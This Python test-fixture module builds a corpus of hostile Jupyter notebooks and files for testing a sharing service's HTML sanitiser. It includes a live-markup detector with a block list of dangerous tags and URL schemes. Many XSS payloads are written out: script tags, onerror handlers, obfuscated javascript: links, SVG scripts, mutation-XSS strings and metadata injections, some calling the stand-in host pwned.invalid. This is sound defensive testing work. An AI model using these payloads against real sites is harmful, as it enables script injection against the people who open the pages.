"""The hostile corpus of issue 12, in one place: notebooks and files an attacker would
share, each trying to run a script in whoever opens the link.

Every payload, if it ran, would set ``window.__pwned`` (or a property of ``top``/``parent``
called ``__pwned``) or ask for ``http://pwned.invalid/...`` (the network watch sees the
request). Every notebook also carries what a reader must still see:
``VISIBLE-<name>`` in a Markdown cell, ``OUTPUT-<name>`` as a stream output, and a PNG
image (``alt="No description ..."``, nbconvert's default), so a test can assert the
page still shows cells, outputs and images.

Reused by tests/share/test_sanitize.py (unit tests of the sanitiser),
tests/share/test_hostile_browser.py (real Chromium on every backend) and
tests/share/test_bad_input.py (the API's answers to bad input).
"""

from __future__ import annotations

import base64
import json
import re
from dataclasses import dataclass
from html.parser import HTMLParser
from typing import Any

import nbformat

PROBE = "window.__pwned"
JS = "window.__pwned=1;top.__pwned=1;console.log('PWNED');fetch('http://pwned.invalid/x')"
#: A 1x1 red PNG.
PNG = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de"
        "0000000c4944415408d763f8cfc0000003010100c9fe92ef0000000049454e44ae426082"
    )
).decode("ascii")
SVG_SCRIPT = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="'
    + JS
    + '"><script>'
    + JS
    + '</script><rect width="20" height="20" fill="blue"/></svg>'
)

BAD_TAGS = frozenset(
    {"script", "iframe", "object", "embed", "base", "meta", "link", "svg", "math", "form",
     "input", "frame", "frameset", "style", "video", "audio", "template", "xmp", "noscript",
     "marquee", "applet", "portal"}
)  # fmt: skip
URL_ATTRS = frozenset({"href", "src", "action", "formaction", "srcset", "xlink:href", "data"})


class _Live(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_head = True

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "body":
            self.in_head = False
        if tag in BAD_TAGS and not (self.in_head and tag in ("meta", "style")):
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            v = "".join((value or "").split()).lower()
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=>")
            if name in ("srcdoc", "http-equiv") and not self.in_head:
                self.problems.append(f"<{tag} {name}=>")
            if name in URL_ATTRS and (
                v.startswith(("javascript:", "vbscript:"))
                or (v.startswith("data:") and not (tag == "img" and v.startswith("data:image/")))
            ):
                self.problems.append(f"<{tag} {name}={v[:30]}>")
            if name == "style" and any(x in v for x in ("expression", "url(", "javascript")):
                self.problems.append(f"<{tag} style={v[:30]}>")


def live_markup(page: str) -> list[str]:
    """What in a page could run or navigate: tags, handlers and URLs as a browser parses
    them (text that merely shows ``<script>`` is not markup)."""
    p = _Live()
    p.feed(page)
    p.close()
    return p.problems


@dataclass(frozen=True)
class Hostile:
    """One hostile item: a notebook (``nb``) or a plain file (``data``)."""

    name: str  # the file name it is saved as
    what: str  # what it tries
    nb: dict[str, Any] | None = None
    data: bytes | None = None

    @property
    def is_notebook(self) -> bool:
        return self.nb is not None

    @property
    def marker(self) -> str:
        return _marker(self.name)

    def bytes(self) -> bytes:
        if self.nb is not None:
            return json.dumps(self.nb).encode("utf-8")
        assert self.data is not None
        return self.data


def _marker(name: str) -> str:
    return re.sub(r"[^A-Za-z0-9-]", "x", name.rsplit(".", 1)[0])


def _nb(
    name: str,
    *,
    markdown: str = "",
    outputs: list[dict[str, Any]] | None = None,
    source: str = "1 + 1",
    metadata: dict[str, Any] | None = None,
    cell_metadata: dict[str, Any] | None = None,
    raw: str | None = None,
) -> dict[str, Any]:
    marker = _marker(name)
    md = nbformat.v4.new_markdown_cell(f"VISIBLE-{marker}\n\n{markdown}")
    if cell_metadata:
        md.metadata.update(cell_metadata)
    code = nbformat.v4.new_code_cell(
        source,
        execution_count=1,
        outputs=[
            nbformat.v4.new_output("stream", name="stdout", text=f"OUTPUT-{marker}\n"),
            nbformat.v4.new_output(
                "display_data", data={"image/png": PNG, "text/plain": "<image>"}
            ),
            *(outputs or []),
        ],
    )
    cells = [md, code]
    if raw is not None:
        cells.append(nbformat.v4.new_raw_cell(raw))
    nb = nbformat.v4.new_notebook(cells=cells, metadata=metadata or {})
    return dict(nbformat.from_dict(json.loads(json.dumps(nb))))


def _display(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> dict[str, Any]:
    return dict(nbformat.v4.new_output("display_data", data=data, metadata=metadata or {}))


def _notebooks() -> list[Hostile]:
    H = Hostile
    items = [
        H("width-trick.ipynb", "unquoted image width in output metadata (nbconvert lab)",
          _nb("width-trick.ipynb", outputs=[_display(
              {"image/png": PNG}, {"image/png": {"width": f"1 onload={JS} onerror={JS}"}})])),
        H("height-trick.ipynb", "unquoted jpeg height in output metadata",
          _nb("height-trick.ipynb", outputs=[_display(
              {"image/jpeg": PNG}, {"image/jpeg": {"height": f"1 onload={JS} onerror={JS}"}})])),
        H("width-top.ipynb", "width/height at the top of the output metadata",
          _nb("width-top.ipynb", outputs=[_display(
              {"image/png": PNG}, {"width": "2 onload=window.__pwned=1", "height": "x"})])),
        H("raw-script.ipynb", "raw <script> in Markdown and in an HTML output",
          _nb("raw-script.ipynb", markdown=f"<script>{JS}</script>",
              outputs=[_display({"text/html": f"<script>{JS}</script><b>bold</b>"})])),
        H("img-onerror.ipynb", "<img onerror> in Markdown and output",
          _nb("img-onerror.ipynb", markdown=f'<img src="x" onerror="{JS}">',
              outputs=[_display({"text/html": f"<img src=x onerror={JS}>"})])),
        H("js-links.ipynb", "javascript: links, some obfuscated",
          _nb("js-links.ipynb",
              markdown="[click](javascript:window.__pwned=1) "
              '<a href="JaVaScRiPt:window.__pwned=1">a</a> '
              '<a href="java&#x09;script:window.__pwned=1">b</a> '
              '<a href=" &#106;avascript:window.__pwned=1">c</a> '
              '<a href="data:text/html,<script>window.__pwned=1</script>">d</a>')),
        H("svg-output.ipynb", "SVG with script as an output",
          _nb("svg-output.ipynb", outputs=[_display({"image/svg+xml": SVG_SCRIPT})])),
        H("svg-html.ipynb", "inline SVG with script in an HTML output and Markdown",
          _nb("svg-html.ipynb", markdown=SVG_SCRIPT,
              outputs=[_display({"text/html": SVG_SCRIPT + '<svg><a href="javascript:'
                                 'window.__pwned=1"><text>x</text></a></svg>'})])),
        H("iframe-srcdoc.ipynb", "<iframe srcdoc>, <object>, <embed>",
          _nb("iframe-srcdoc.ipynb",
              markdown='<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
              outputs=[_display({"text/html":
                                 '<object data="data:text/html,<script>top.__pwned=1</script>">'
                                 '</object><embed src="javascript:window.__pwned=1">'
                                 '<iframe src="javascript:parent.__pwned=1"></iframe>'})])),
        H("base-href.ipynb", "<base href> to hijack relative URLs",
          _nb("base-href.ipynb", markdown='<base href="http://pwned.invalid/">',
              outputs=[_display({"text/html": '<base href="javascript:window.__pwned=1//">'
                                 '<a href="rel">rel</a>'})])),
        H("meta-refresh.ipynb", "<meta http-equiv=refresh>",
          _nb("meta-refresh.ipynb",
              markdown='<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">',
              outputs=[_display({"text/html":
                                 '<meta http-equiv=refresh content="0; url=http://pwned.invalid/">'})])),
        H("css.ipynb", "CSS expression() and url(javascript:), <style>, <link>",
          _nb("css.ipynb",
              markdown='<div style="width: expression(window.__pwned=1)">e</div>'
              '<div style="background:url(javascript:window.__pwned=1)">u</div>'
              "<style>@import 'http://pwned.invalid/x.css'; body{background:"
              "url(http://pwned.invalid/bg)}</style>",
              outputs=[_display({"text/html": '<link rel="stylesheet" '
                                 'href="http://pwned.invalid/s.css"><p style="color:red;'
                                 'behavior:url(x.htc)">p</p>'})])),
        H("mxss.ipynb", "mutation-XSS strings (namespace confusion, noscript, comments)",
          _nb("mxss.ipynb",
              markdown='<math><mtext><table><mglyph><style><img src=x onerror='
              'window.__pwned=1></style></mglyph></table></mtext></math>',
              outputs=[_display({"text/html":
                  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">'
                  '</noscript>'
                  '<svg></p><style><a id="</style><img src=1 onerror=window.__pwned=1>">'
                  '<form><math><mtext></form><form><mglyph><style></math>'
                  '<img src onerror=window.__pwned=1>'
                  '<!--><img src=x onerror=window.__pwned=1>-->'
                  '<textarea></textarea><img src=x onerror=window.__pwned=1>'
                  '<xmp><img src=x onerror=window.__pwned=1></xmp>'})])),
        H("widget-state.ipynb", "script-like text in widget state and widget views",
          _nb("widget-state.ipynb",
              metadata={"widgets": {"application/vnd.jupyter.widget-state+json": {
                  "state": {"x": {"model_name": "</script><script>window.__pwned=1</script>",
                                  "state": {"value": "<img src=x onerror=window.__pwned=1>"}}},
                  "version_major": 2, "version_minor": 0}}},
              outputs=[_display({"application/vnd.jupyter.widget-view+json": {
                  "model_id": "</script><script>window.__pwned=1</script>",
                  "version_major": 2, "version_minor": 0},
                  "text/plain": "widget"})])),
        H("js-output.ipynb", "application/javascript outputs",
          _nb("js-output.ipynb", outputs=[_display(
              {"application/javascript": JS, "text/plain": "js"})])),
        H("title-<script>.ipynb", "script in the file name (the page title)",
          _nb("title-<script>.ipynb")),
        H("metadata-title.ipynb", "script in the notebook's metadata title and authors",
          _nb("metadata-title.ipynb", metadata={
              "title": "</title><script>window.__pwned=1</script>",
              "authors": [{"name": "<img src=x onerror=window.__pwned=1>"}]})),
        H("tags.ipynb", "script in cell tags and cell metadata",
          _nb("tags.ipynb", cell_metadata={
              "tags": ['"><script>window.__pwned=1</script>', "<img src=x onerror=x>"],
              "name": "<script>window.__pwned=1</script>"})),
        H("traceback.ipynb", "script in an error's name, value and traceback",
          _nb("traceback.ipynb", outputs=[dict(nbformat.v4.new_output(
              "error", ename="<script>window.__pwned=1</script>",
              evalue="<img src=x onerror=window.__pwned=1>",
              traceback=["\x1b[31m<script>window.__pwned=1</script>\x1b[0m",
                         "<img src=x onerror=window.__pwned=1>"]))])),
        H("stream-html.ipynb", "HTML in stream text and in code source",
          _nb("stream-html.ipynb", source="'<script>window.__pwned=1</script>'",
              outputs=[dict(nbformat.v4.new_output(
                  "stream", name="stderr", text="<script>window.__pwned=1</script>\n"))])),
        H("markdown-output.ipynb", "text/markdown and text/latex outputs with HTML",
          _nb("markdown-output.ipynb", outputs=[
              _display({"text/markdown": "<img src=x onerror=window.__pwned=1> **md**"}),
              _display({"text/latex": "$x$</div><script>window.__pwned=1</script>"})])),
        H("raw-cell.ipynb", "a raw cell with HTML (raw_mimetype text/html)",
          _nb("raw-cell.ipynb", raw="<script>window.__pwned=1</script>"
              "<img src=x onerror=window.__pwned=1>")),
        H("attachments.ipynb", "an attachment that is an SVG with script",
          _nb("attachments.ipynb", markdown="![a](attachment:a.svg)")),
        H("event-handlers.ipynb", "many event handlers, details ontoggle, autofocus",
          _nb("event-handlers.ipynb",
              markdown='<details open ontoggle="window.__pwned=1"><summary>s</summary>'
              "</details>"
              '<input autofocus onfocus="window.__pwned=1">'
              '<video src=x onerror="window.__pwned=1"></video>'
              '<audio src=x onerror="window.__pwned=1"></audio>'
              '<body onload="window.__pwned=1">'
              '<div onmouseover="window.__pwned=1">hover</div>'
              '<marquee onstart="window.__pwned=1">m</marquee>')),
        H("data-uris.ipynb", "data: URIs other than images: html, svg as link",
          _nb("data-uris.ipynb",
              markdown="![ok](data:image/png;base64," + PNG + ")"
              '<img src="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+">'
              '<a href="data:image/svg+xml;base64,'
              + base64.b64encode(SVG_SCRIPT.encode()).decode() + '">svg link</a>')),
        H("math.ipynb", "math with script-like TeX; the TeX must survive",
          _nb("math.ipynb",
              markdown="$$e^{i\\pi} + 1 = 0$$ and $\\href{javascript:window.__pwned=1}{x}$ "
              "and $a<b>c$")),
        H("template-inject.ipynb", "Jinja-like and HTML comment tricks in text",
          _nb("template-inject.ipynb",
              markdown="{{ 7*7 }} {% raw %} <!-- <script>window.__pwned=1</script> -->")),
    ]  # fmt: skip
    # attachments: an SVG with a script, referenced from Markdown
    att = items[[h.name for h in items].index("attachments.ipynb")].nb
    assert att is not None
    att["cells"][0]["attachments"] = {
        "a.svg": {"image/svg+xml": base64.b64encode(SVG_SCRIPT.encode()).decode()}
    }
    return items


def _files() -> list[Hostile]:
    H = Hostile
    return [
        H("page.html", "an HTML file with a script", data=f"<script>{JS}</script>hi".encode()),
        H("pic.svg", "an SVG file with a script", data=SVG_SCRIPT.encode()),
        H("page.htm", "an .htm file", data=f"<img src=x onerror=\"{JS}\">".encode()),
        H("page.xhtml", "an XHTML file", data=(
            '<html xmlns="http://www.w3.org/1999/xhtml"><script>' + JS + "</script></html>"
        ).encode()),
        H("notes.txt", "text that sniffs as HTML", data=f"<html><script>{JS}</script>".encode()),
        H("data.json", "JSON with HTML inside", data=b'{"x": "<script>window.__pwned=1</script>"}'),
        H("noext", "no extension, HTML content",
          data=f"<!DOCTYPE html><script>{JS}</script>".encode()),
        H("blob.bin", "binary bytes", data=bytes(range(256))),
        H("fake.png", "HTML named as an image", data=f"<script>{JS}</script>".encode()),
        H("xss.js", "a JavaScript file", data=JS.encode()),
    ]  # fmt: skip


NOTEBOOKS: list[Hostile] = _notebooks()
FILES: list[Hostile] = _files()
CORPUS: list[Hostile] = NOTEBOOKS + FILES


def invalid_notebooks() -> list[tuple[str, dict[str, Any]]]:
    """Notebooks jupyter_server saves (with a validation message) that nbformat rejects."""
    base = dict(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1")]))
    no_outputs = json.loads(json.dumps(base))
    del no_outputs["cells"][0]["outputs"]
    bad_output = json.loads(json.dumps(base))
    bad_output["cells"][0]["outputs"] = [{"output_type": "nonsense", "data": 3}]
    bad_cell = json.loads(json.dumps(base))
    bad_cell["cells"].append({"cell_type": "weird", "source": "<script>x</script>"})
    dup_ids = json.loads(json.dumps(base))
    dup_ids["cells"].append(json.loads(json.dumps(dup_ids["cells"][0])))
    bad_meta = json.loads(json.dumps(base))
    bad_meta["metadata"]["kernelspec"] = {"name": 3}
    return [
        ("no-outputs.ipynb", no_outputs),
        ("bad-output.ipynb", bad_output),
        ("bad-cell.ipynb", bad_cell),
        ("dup-ids.ipynb", dup_ids),
        ("bad-meta.ipynb", bad_meta),
    ]
